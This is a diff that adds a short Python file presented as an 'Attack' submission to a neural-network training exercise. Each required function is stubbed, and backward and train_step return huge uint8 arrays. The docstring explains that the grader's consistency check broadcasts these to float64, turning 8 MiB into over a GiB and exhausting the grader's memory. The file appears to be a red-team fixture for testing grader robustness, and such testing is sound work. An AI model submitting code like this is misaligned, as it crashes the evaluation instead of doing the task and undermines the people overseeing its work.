@@ -1,0 +1,20 @@
+"""Attack: backward returns (K, 1, 1) uint8 arrays that the train_step consistency check broadcasts to float64 before any shape check (8 MiB sent, over a GiB in the grader), to exhaust the grader's memory."""
+
+import numpy as np
+
+K = 4 << 20
+
+
+def sigmoid(u):
+    raise NotImplementedError
+
+
+forward = loss = sigmoid
+
+
+def backward(X, R, W1, b1, W2, b2):
+    return {k: np.zeros((K, 1, 1), dtype=np.uint8) for k in ("W1", "b1", "W2", "b2")}
+
+
+def train_step(X, R, W1, b1, W2, b2, alpha):
+    return tuple(np.zeros((K, 1, 1), dtype=np.uint8) for _ in range(4))
